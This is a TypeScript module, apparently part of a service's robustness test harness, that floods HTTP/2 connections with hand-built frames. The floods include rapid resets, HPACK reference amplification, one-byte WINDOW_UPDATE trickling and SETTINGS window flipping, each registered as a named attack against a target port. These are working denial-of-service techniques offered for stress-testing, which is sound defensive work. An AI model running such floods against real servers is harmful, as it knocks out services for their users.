/** Attacks with single HTTP/2 frames. Ignores the content of responses. */
import { once } from "node:events";
import { setImmediate as turn, setTimeout as sleep } from "node:timers/promises";
import { encodeBlock, encodeInteger, type Field } from "../../../test/helpers/wire/hpack.js";
import {
  errorCodes,
  flags,
  frameBytes,
  frameTypes,
  numberBytes,
  preface,
  settingIds,
  settingsPayload,
} from "../../../test/helpers/wire/http2-frames.js";
import { type Attacks, type AttackCounts, openSocket, type Target } from "./attack.js";
import { readProgram } from "./calls.js";
import { createFrameScanner } from "./flood.js";

/** Frames that a connection is flooded with. */
interface Flood {
  /** First SETTINGS frame. */
  readonly settings?: Readonly<Record<number, number>>;
  /** Frames to send first. May open streams below {@link firstStream}. */
  readonly begin?: Buffer;
  /** Returns the frames to repeat, given the number of the next stream. */
  readonly more: (stream: number) => Buffer;
  /** Number of streams that one call of `more` opens. */
  readonly streams: number;
  /** Pause in milliseconds after each repetition. Default: none. */
  readonly pauseMs?: number;
  /** Number of repetitions before the connection is closed and reopened. Default: no limit. */
  readonly times?: number;
}

/** First stream that `more` may open. */
const firstStream = 10_001;

/** Time limit in milliseconds for which a node may read nothing before the connection is closed. */
const stuckMs = 500;

/** Floods connections. Reopens each when it is closed, receives GOAWAY, or is no longer read. */
async function flood(port: number, signal: AbortSignal, connections: number, what: Flood): Promise<AttackCounts> {
  const { settings = {}, begin, more, streams, pauseMs, times = Infinity } = what;
  let [cut, stuck, sentBytes] = [0, 0, 0];
  const isOver = (): boolean => signal.aborted;
  const run = async (): Promise<void> => {
    while (!isOver()) {
      const socket = openSocket(port);
      const gone = new AbortController();
      socket.once("close", () => gone.abort());
      const scan = createFrameScanner((type) => type === frameTypes.goAway && gone.abort());
      socket.on("data", scan);
      socket.write(preface);
      socket.write(frameBytes(frameTypes.settings, 0, 0, settingsPayload(settings)));
      if (begin !== undefined) {
        socket.write(begin);
      }
      for (let i = 0; i < times && !isOver() && !gone.signal.aborted; i++) {
        const bytes = more(firstStream + 2 * streams * i);
        sentBytes += bytes.length;
        if (!socket.write(bytes)) {
          const limit = AbortSignal.timeout(stuckMs);
          await once(socket, "drain", { signal: AbortSignal.any([signal, gone.signal, limit]) }).catch(() => undefined);
          if (limit.aborted) {
            stuck++;
            break;
          }
        }
        await (pauseMs === undefined ? turn() : sleep(pauseMs));
      }
      cut += gone.signal.aborted ? 1 : 0;
      socket.destroy();
      // The node may reject connections, so pause before the next attempt.
      await sleep(5);
    }
  };
  await Promise.all(Array.from({ length: connections }, run));
  return { "connections cut": cut, stuck, "sent MiB": sentBytes / 1024 ** 2 };
}

const pseudo = (path: string): Field[] => [
  [":method", "POST"],
  [":scheme", "http"],
  [":authority", "a"],
  [":path", path],
];
const call = encodeBlock([
  ...pseudo("/gatehouse.info.v1.InfoService/GetVersion"),
  ["content-type", "application/grpc"],
  ["te", "trailers"],
]);
const untyped = encodeBlock(pseudo("/gatehouse.info.v1.InfoService/GetVersion"));

/** Opens streams with a header block, and resets them at once (rapid reset). */
function resets(block: Buffer, count: number): Pick<Flood, "more" | "streams"> {
  const cancel = numberBytes(errorCodes.cancel);
  return {
    streams: count,
    more: (first) =>
      Buffer.concat(
        Array.from({ length: count }, (_, i) => [
          frameBytes(frameTypes.headers, flags.endHeaders, first + 2 * i, block),
          frameBytes(frameTypes.reset, 0, first + 2 * i, cancel),
        ]).flat(),
      ),
  };
}

/** Opens streams that request a program, before the flood starts. */
function readers(program: string, count: number): Buffer {
  const { path, body } = readProgram(program);
  const block = encodeBlock([...pseudo(path), ["content-type", "application/grpc"], ["te", "trailers"]]);
  const frames = Array.from({ length: count }, (_, i) => [
    frameBytes(frameTypes.headers, flags.endHeaders, 2 * i + 1, block),
    frameBytes(frameTypes.data, flags.endStream, 2 * i + 1, body),
  ]);
  return Buffer.concat(frames.flat());
}

/** Adds a long field to the HPACK table, and sends blocks that refer to it thousands of times. */
function references(): Flood {
  const text = (value: string): Buffer => Buffer.concat([encodeInteger(value.length, 7), Buffer.from(value)]);
  const remembered = Buffer.concat([Buffer.from([0x40]), text("x"), text("y".repeat(4_000))]);
  const opened = flags.endHeaders | flags.endStream;
  const block = Buffer.concat([call, Buffer.alloc(16_000, 0xbe)]);
  return {
    begin: frameBytes(frameTypes.headers, opened, 1, Buffer.concat([call, remembered])),
    streams: 1,
    more: (stream) => frameBytes(frameTypes.headers, opened, stream, block),
  };
}

const waiting = 100;
const windowOf = (bytes: number): Readonly<Record<number, number>> => ({ [settingIds.initialWindow]: bytes });

const singleBytes = Buffer.concat(
  Array.from({ length: waiting }, (_, i) => frameBytes(frameTypes.windowUpdate, 0, 2 * i + 1, numberBytes(1))),
);
const flips = Buffer.concat(
  Array.from({ length: 50 }, () => [
    frameBytes(frameTypes.settings, 0, 0, settingsPayload(windowOf(1))),
    frameBytes(frameTypes.settings, 0, 0, settingsPayload(windowOf(0))),
  ]).flat(),
);

function attack(connections: number, what: (target: Target) => Flood): Attacks[string] {
  return { harm: (target, signal) => flood(target.port, signal, connections, what(target)) };
}

export const frameAttacks: Attacks = {
  "rapid resets, one connection": attack(1, () => resets(call, 100)),
  "rapid resets, 50 connections": attack(50, () => resets(call, 100)),
  "headers and RST without a content type": attack(4, () => ({ ...resets(untyped, 50), times: 1, pauseMs: 100 })),
  "HPACK references": attack(1, references),
  "windows opened byte by byte": attack(1, ({ program }) => ({
    settings: windowOf(0),
    begin: readers(program, waiting),
    more: () => singleBytes,
    streams: 0,
  })),
  "windows opened and shut by SETTINGS": attack(1, ({ program }) => ({
    settings: windowOf(0),
    begin: readers(program, waiting),
    more: () => flips,
    streams: 0,
  })),
};
